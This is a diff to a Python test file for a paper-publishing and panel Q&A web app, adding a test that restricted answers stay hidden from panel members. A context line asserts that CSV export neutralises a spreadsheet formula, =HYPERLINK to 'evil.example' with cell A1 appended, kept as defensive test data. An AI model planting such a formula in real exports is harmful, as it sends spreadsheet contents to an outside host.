@@ -27,3 +27,24 @@ def test_round_csv_neutralises_formula_text(demo, client_for):
     row = next(row for row in rows if row[0] == "31")
     assert not any(cell.startswith(FORMULA_LEADS) for cell in row), row
     assert row[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+
+
+# A panel member's own question, made restricted: its answer is restricted-pack content --------
+
+def test_panel_member_does_not_read_the_answer_of_a_restricted_item(demo, client_for):
+    from panel.services import raise_question, update_item
+    from publications import publishing
+    from tests.factories import september_paper
+
+    publication = publishing.publish_paper(paper_id=september_paper().pk, user=demo["author"])
+    item = raise_question(publication=publication, text="What is the MPS budget gap?", user=demo["panel"])
+    update_item(item_id=item.pk, expected_version=item.version, user=demo["author"], reason="Restricted matter",
+                restricted=True, status="answered", answer="SECRET-ANSWER: twelve million")
+    client = client_for("panel")
+    detail = client.get(reverse("panel:detail", args=[item.pk]))
+    assert detail.status_code == 200 and "What is the MPS budget gap?" in detail.content.decode()
+    assert "SECRET-ANSWER" not in detail.content.decode()
+    for url in (reverse("panel:list"), reverse("published:version", args=[publication.paper_id, 1])):
+        assert "SECRET-ANSWER" not in client.get(url).content.decode()
+    # Those who may read the restricted pack still read it.
+    assert "SECRET-ANSWER" in client_for("smt").get(reverse("panel:detail", args=[item.pk])).content.decode()
